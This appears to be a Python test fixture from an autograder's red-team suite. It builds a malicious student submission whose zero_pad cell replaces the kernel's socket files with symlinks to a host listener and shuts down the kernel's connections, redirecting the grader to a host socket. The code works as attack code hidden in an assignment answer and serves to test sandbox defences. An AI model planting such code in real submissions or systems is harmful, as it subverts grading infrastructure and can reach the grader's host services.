"""Swap the kernel's socket files for links to a socket on the host, then hang up: the grader reconnects by path.

All eight functions are honest. The zero_pad cell first tries to replace the sockets
in /run/kernel (unlink, rename, a new link: each must fail, that folder is read-only),
then puts in /tmp/.kernel, where a kernel's sockets used to be, a link to the test's
unix listener on the host in place of every socket file, and shuts down every connection
the kernel holds (its listeners stay: zmq aborts the kernel when one fails, and a dead
kernel's /proc/<pid>/root leads nowhere). It sleeps a second, so that the grader has
reconnected before the cell says anything more.
Without protection: the grader, which reached the sockets through
/proc/<pid>/root/tmp/.kernel/ipc-N, follows the links with its own root and connects,
every 10 ms, to the host's socket (issue 18's red team: about 200 times; the host
socket could be any service of the grader's user), and the student's grading hangs.
"""
from . import UNIX_LISTENER

EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
# The red team's move, shared with tests/test_socket_paths.py: each socket path of the kernel's connection
# file, in /tmp/.kernel where a kernel's sockets used to be, becomes a link to `listener`, and every
# connection the kernel holds is shut down, so that the grader reconnects by path. (Its listeners are left
# alone: zmq aborts the kernel on a listener that fails, and a dead kernel's /proc/<pid>/root leads nowhere.)
SWAP_AND_HANG_UP = '''

import json as _json
import os as _os
import socket as _socket


def _cnnattack_swap_and_hang_up(listener):
    try:
        _ports = _json.load(open("/tmp/.kernel/kernel.json"))
    except (OSError, ValueError):
        return
    for _name in ("shell_port", "iopub_port", "stdin_port", "control_port", "hb_port"):
        _path = "/tmp/.kernel/ipc-%s" % _ports.get(_name)
        try:
            if _os.path.lexists(_path):
                _os.unlink(_path)
            _os.symlink(listener, _path)
        except OSError:
            pass
    for _fd in range(3, 1024):
        try:
            _copy = _os.dup(_fd)
        except OSError:
            continue
        try:
            _held = _socket.socket(fileno=_copy)
        except OSError:
            _os.close(_copy)
            continue
        try:
            if _held.family == _socket.AF_UNIX and not _held.getsockopt(_socket.SOL_SOCKET, _socket.SO_ACCEPTCONN):
                _held.shutdown(_socket.SHUT_RDWR)
        except OSError:
            pass
        finally:
            _held.close()
'''

APPEND = {"zero_pad": SWAP_AND_HANG_UP + '''
import glob as _glob
import time as _time

_LISTENER = ''' + repr(UNIX_LISTENER.format(port="{{PORT}}")) + '''


def _cnnattack_socket_swap():
    for _path in _glob.glob("/run/kernel/ipc-*"):
        for _act in (lambda: _os.unlink(_path), lambda: _os.rename(_path, _path + ".old"),
                     lambda: _os.symlink(_LISTENER, _path + ".new")):
            try:
                _act()
            except OSError:
                pass
    _cnnattack_swap_and_hang_up(_LISTENER)
    _time.sleep(1)


_cnnattack_socket_swap()
'''}
